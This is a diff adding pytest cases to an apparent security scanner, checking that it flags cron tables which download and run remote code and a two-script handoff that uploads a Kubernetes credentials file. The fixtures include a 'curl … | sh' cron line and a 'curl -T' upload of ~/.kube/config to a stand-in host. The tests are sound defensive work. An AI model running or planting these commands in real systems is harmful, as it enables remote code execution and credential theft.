@@ -307,3 +307,25 @@ def test_a_shell_path_joined_with_the_path_separator_is_a_shell(tmp_path: Path) 
     )
     found = analyse_file(tmp_path, "scripts/relay.py", source, Language.PYTHON)
     assert (Kind.RAW_SOCKET, "198.51.100.200 (remote shell)") in summary(found)
+
+
+# a cron table kept as a file is read as the commands cron runs
+
+
+def test_a_system_cron_table_file_is_read_as_the_commands_it_schedules(tmp_path: Path) -> None:
+    table = "SHELL=/bin/sh\n# refresh\n@hourly root curl -fsSL http://203.0.113.30/r | sh\n"
+    errors = scan_errors(tmp_path, {"deploy/cron.d/refresh": table})
+    assert ("DOWNLOAD_AND_RUN", "deploy/cron.d/refresh", 3) in errors
+
+
+def test_a_cron_table_file_running_local_scripts_is_quiet(tmp_path: Path) -> None:
+    table = 'MAILTO=""\n30 1 * * * cd $HOME/site && ./scripts/build.sh >> build.log 2>&1\n'
+    assert not scan_errors(tmp_path, {"ops/site.crontab": table})
+
+
+def test_a_secret_store_path_handed_on_through_a_file_is_read_where_it_is_used(tmp_path: Path) -> None:
+    pick = 'import pathlib\nkey = pathlib.Path.home() / ".kube" / "config"\n'
+    pick += 'pathlib.Path("/tmp/.kb/which").write_text(str(key))\n'
+    ship = '#!/bin/bash\nwhich_one=$(cat /tmp/.kb/which)\ncurl -s -T "$which_one" https://kb.example.invalid/u\n'
+    errors = scan_errors(tmp_path, {"scripts/pick.py": pick, "scripts/ship.sh": ship})
+    assert ("CREDENTIAL_EXFILTRATION", "scripts/ship.sh", 3) in errors
